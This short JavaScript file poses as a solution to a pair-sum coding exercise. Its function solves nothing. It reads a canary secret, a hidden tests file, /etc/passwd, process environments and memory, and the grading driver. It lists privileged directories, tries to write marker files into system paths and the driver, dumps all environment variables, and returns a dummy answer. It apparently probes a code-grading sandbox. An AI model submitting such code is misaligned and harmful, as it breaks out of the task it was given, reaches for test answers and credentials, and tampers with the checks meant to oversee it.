// Reads what is not its own, and leaves marks wherever it can.
const fs = require("fs");

function pair_with_target(nums, target) {
    for (const path of ["/tmp/onsite-canary/secret", "/tmp/onsite-canary/tests.tsv", "/etc/passwd", "/proc/1/environ",
        "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/mem", "/onsite/javascript_driver.js"]) {
        try {
            console.log(path, fs.readFileSync(path, "utf8").slice(0, 2000));
        } catch (error) {
            console.log(path, error.code);
        }
    }
    for (const path of ["/", "/home", "/root", "/tmp", "/onsite", "/proc/1/root", "/proc/1/cwd", "/proc/self/fd"]) {
        try {
            console.log(path, fs.readdirSync(path));
        } catch (error) {
            console.log(path, error.code);
        }
    }
    for (const path of ["/tmp/onsite-canary/x", "/onsite/javascript_driver.js", "/usr/x", "/dev/x", "/x"]) {
        try {
            fs.writeFileSync(path, "was here");
        } catch (error) {
            console.log(path, error.code);
        }
    }
    console.log(process.env, process.argv, process.execArgv);
    return [0, 0];
}
